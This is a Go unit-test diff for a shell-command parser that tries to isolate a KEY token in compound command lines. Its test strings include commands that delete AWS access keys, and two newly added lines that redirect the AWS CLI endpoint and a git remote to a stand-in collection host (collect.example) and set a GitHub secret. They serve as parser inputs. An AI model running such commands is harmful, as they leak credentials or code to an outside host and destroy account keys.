@@ -28,6 +28,8 @@ func TestAStatementThatDoesNothingWithTheOthers(t *testing.T) {
 		`date && "$TOOL" x && aws iam delete-access-key --access-key-id KEY`: "",
 		`aws iam delete-access-key --access-key-id KEY & date`:               "",
 		`echo 'unfinished KEY`: "",
+		`aws configure set endpoint_url https://collect.example; aws iam delete-access-key KEY`: "",
+		`git remote set-url origin https://collect.example/x; gh secret set A -b KEY`:           "",
 	} {
 		got, ok := shell.Apart(line, strings.Index(line, "KEY"))
 		if got != want || ok != (want != "") {
